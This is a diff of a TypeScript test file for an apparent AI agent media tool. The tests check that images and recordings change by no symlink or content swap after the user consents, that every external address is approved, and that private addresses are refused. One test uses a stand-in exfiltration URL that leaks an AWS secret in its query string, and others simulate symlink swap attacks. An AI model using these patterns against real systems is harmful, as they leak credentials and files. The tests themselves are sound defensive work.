@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
 import {
   existsSync,
   mkdirSync,
@@ -7,6 +8,9 @@ import {
   readFileSync,
   realpathSync,
   rmSync,
+  statSync,
+  symlinkSync,
+  utimesSync,
   writeFileSync,
 } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -14,6 +18,7 @@ import { join } from 'node:path';
 import { text as readText } from 'node:stream/consumers';
 import type { AgentAnswer } from '../../../src/agents/prepareCall.ts';
 import type { ToolResult } from '../../../src/agents/ToolResult.ts';
+import { toolOf } from '../../../src/agents/tools.ts';
 import { noAmounts } from '../../../src/operations/amounts.ts';
 import { MediaError } from '../../../src/operations/MediaError.ts';
 import type { Sandbox } from '../../../src/sandbox/startSandbox.ts';
@@ -24,9 +29,10 @@ import { inputAgain } from '../../../src/work/JobRunner.ts';
 import type { DeskOptions } from '../../support/agentDesk.ts';
 import { openDesk } from '../../support/agentDesk.ts';
 import { openAgentWindow } from '../../support/agentWindow.ts';
-import { startHttpServer } from '../../support/httpServer.ts';
+import { bodyOf, startHttpServer } from '../../support/httpServer.ts';
 import { lfsPointer } from '../../support/lfsPointer.ts';
 import { mp3Bytes, pngBytes, wavOf } from '../../support/mediaBytes.ts';
+import { skipUnless } from '../../support/skipUnless.ts';
 import { startStandingService } from '../../support/standingService.ts';
 
 describe('AgentDesk', () => {
@@ -176,7 +182,6 @@ describe('AgentDesk', () => {
   });
 
   it('follows no link that leaves the workspace or enters a hidden folder', async () => {
-    const { symlinkSync } = await import('node:fs');
     const desk = open();
     const before = sent();
     symlinkSync(desk.folder, join(desk.root, 'out'), 'junction');
@@ -190,6 +195,167 @@ describe('AgentDesk', () => {
     ];
     for (const { status, error } of results) assert.deepEqual([status, error?.kind], ['failed', 'invalidInput']);
     assert.equal(sent(), before);
+  });
+
+  describe('sends what was agreed to', () => {
+    const secret = Buffer.concat([pngBytes, Buffer.from('SECRET')]);
+    const wav = Buffer.from('RIFF\0\0\0\0WAVEfmt ');
+    const inputs = [
+      { what: 'picture', tool: 'media_edit_image', name: 'hero.png', bytes: pngBytes, other: secret },
+      {
+        what: 'recording',
+        tool: 'media_transcribe',
+        name: 'call.wav',
+        bytes: wav,
+        other: Buffer.concat([wav, Buffer.from('SECRET')]),
+      },
+    ] as const;
+    const inputOf = (name: string) => (name.endsWith('.png') ? { prompt: 'a', images: [name] } : { file: name });
+    let bodies: string[];
+
+    beforeEach(() => {
+      bodies = [];
+    });
+
+    async function listen(): Promise<string> {
+      const server = await startHttpServer(async (request, response) => {
+        if (request.method === 'POST') bodies.push((await bodyOf(request)).toString('latin1'));
+        const { host = '' } = request.headers;
+        if (request.method === 'GET') response.end(pngBytes);
+        else response.end(JSON.stringify({ text: 'Words.', data: [{ url: `http://${host}/result.png` }] }));
+      });
+      return use(server).origin;
+    }
+
+    for (const { what, tool, name, bytes, other } of inputs) {
+      const swaps: Readonly<Record<string, (file: string, outside: string) => void>> = {
+        'a link to a file outside': (file, outside) => {
+          rmSync(file);
+          symlinkSync(outside, file);
+        },
+        'a link to a file of the same content': (file, outside) => {
+          writeFileSync(outside, bytes);
+          rmSync(file);
+          symlinkSync(outside, file);
+        },
+        'other content': (file) => writeFileSync(file, other),
+        'other content of the same size and time': (file) => {
+          const { atime, mtime } = statSync(file);
+          writeFileSync(file, Buffer.from(bytes).fill(7, bytes.length - 1));
+          utimesSync(file, atime, mtime);
+        },
+        nothing: (file) => rmSync(file),
+      };
+      for (const [how, swap] of Object.entries(swaps)) {
+        it(`and nothing when the ${what} becomes ${how} during the question`, async function () {
+          skipUnless(this, process.platform !== 'win32', 'symbolic links');
+          const desk = open(
+            {
+              limit: { images: 0, minutes: 0 },
+              answer: async () => {
+                swap(join(desk.root, name), join(desk.folder, `outside-${name}`));
+                return 'yes';
+              },
+            },
+            await listen(),
+          );
+          writeFileSync(join(desk.folder, `outside-${name}`), other);
+          writeFileSync(join(desk.root, name), bytes);
+          const { status, error } = await desk.ask(tool, inputOf(name));
+          assert.deepEqual([status, error?.kind, error?.charged], ['failed', 'invalidInput', 'no'], error?.message);
+          assert(error?.message.includes(name), error?.message);
+          assert.deepEqual(bodies, []);
+          assert.deepEqual(
+            desk.asked[0]?.call.sends.map(({ path, bytes: size, sha256 }) => [path, size, sha256]),
+            [[join(desk.root, name), bytes.length, createHash('sha256').update(bytes).digest('hex')]],
+          );
+          const { images, minutes } = await desk.host.budget.spent();
+          assert.deepEqual([images, minutes], [0, 0]);
+        });
+      }
+
+      it(`and not what the ${what} becomes while the job waits for its turn`, async () => {
+        const desk = open({}, await listen());
+        writeFileSync(join(desk.root, name), bytes);
+        const queued = new Promise<void>((resolve) => {
+          desk.jobs.onDidChange((id) => {
+            if (desk.jobs.get(id)?.state === 'queued') resolve();
+          });
+        });
+        const turn = Promise.withResolvers<void>();
+        const { run } = desk.host;
+        Object.assign(desk.host, {
+          run: (input: JobInput, options: RunOptions, id: string) =>
+            run(input, { ...options, beforeSending: () => turn.promise }, id),
+        });
+        const asked = desk.ask(tool, inputOf(name));
+        await queued;
+        writeFileSync(join(desk.root, name), other);
+        turn.resolve();
+        const { status, error } = await asked;
+        assert.equal(status, 'done', error?.message);
+        const sentBytes = what === 'picture' ? bytes.toString('base64') : bytes.toString('latin1');
+        assert.equal(bodies.length, 1);
+        assert(bodies[0]?.includes(sentBytes));
+        assert(!bodies[0]?.includes('SECRET') && !bodies[0]?.includes(other.toString('base64')));
+        // A copy of a recording can be gigabytes.
+        const kept = readdirSync(join(desk.folder, 'jobs'), { recursive: true }).map(String);
+        assert.deepEqual(
+          kept.filter((path) => path.includes('recording-')),
+          [],
+        );
+      });
+
+      it(`and pays for changed content of a ${what} on its own`, async () => {
+        const desk = open({}, await listen());
+        writeFileSync(join(desk.root, name), bytes);
+        const first = await desk.ask(tool, inputOf(name));
+        writeFileSync(join(desk.root, name), other);
+        const second = await desk.ask(tool, inputOf(name));
+        assert.deepEqual([first.status, second.status], ['done', 'done']);
+        assert.notEqual(first.job_id, second.job_id);
+        assert.equal(bodies.length, 2);
+      });
+    }
+
+    it('and asks about every address, whatever is left of the budget', async () => {
+      const answers: AgentAnswer[] = ['no', 'unasked', 'yes'];
+      const desk = open({ answer: async () => answers.shift() ?? 'no' }, await listen());
+      const address = 'https://evil.example/x.png?leak=AWS_SECRET%3Dabc';
+      const input = { prompt: 'a', images: [address] };
+      assert.equal((await desk.ask('media_edit_image', input)).status, 'declined');
+      const unasked = await desk.ask('media_edit_image', input);
+      assert.equal(unasked.status, 'declined');
+      assert.match(unasked.next ?? '', /address/);
+      assert.deepEqual([bodies.length, (await desk.host.budget.spent()).images], [0, 0]);
+      assert.equal((await desk.ask('media_edit_image', input)).status, 'done');
+      assert.deepEqual([bodies.length, desk.asked.length, desk.lookedUp], [1, 3, ['evil.example']]);
+      const outlook = await desk.desk.outlook(toolOf('editImage'), { ...input, prompt: 'b' });
+      assert.equal(outlook?.isWithinBudget, false);
+    });
+
+    for (const images of [20, 0]) {
+      it(`and nothing to a name that resolves to a private address (${images} images are left)`, async () => {
+        const desk = open({ limit: { images }, answer: async () => 'yes' }, await listen());
+        const input = { prompt: 'a', images: ['https://intranet.example/a.png'] };
+        const { status, error } = await desk.ask('media_edit_image', input);
+        assert.deepEqual([status, error?.kind, error?.charged], ['failed', 'invalidInput', 'no']);
+        assert.match(error?.message ?? '', /^"images": .* is a private address/);
+        assert.deepEqual([bodies.length, (await desk.host.budget.spent()).images], [0, 0]);
+      });
+    }
+
+    it('and gives the budget back when the caller leaves during the question about an address', async () => {
+      const asking = Promise.withResolvers<AgentAnswer>();
+      const desk = open({ answer: () => asking.promise }, await listen());
+      const input = { prompt: 'a', images: ['https://evil.example/x.png'], wait_seconds: 0 };
+      const { job_id, status } = await desk.ask('media_edit_image', input);
+      assert.equal(status, 'waiting_for_person');
+      for (const call of desk.desk.open) call.cancel();
+      asking.resolve('no');
+      assert.equal((await desk.ask('media_get_job', { job_id, wait_seconds: 50 })).status, 'cancelled');
+      assert.deepEqual([bodies.length, (await desk.host.budget.spent()).images], [0, 0]);
+    });
   });
 
   it('fails and names Restricted Mode when the window is restricted', async () => {
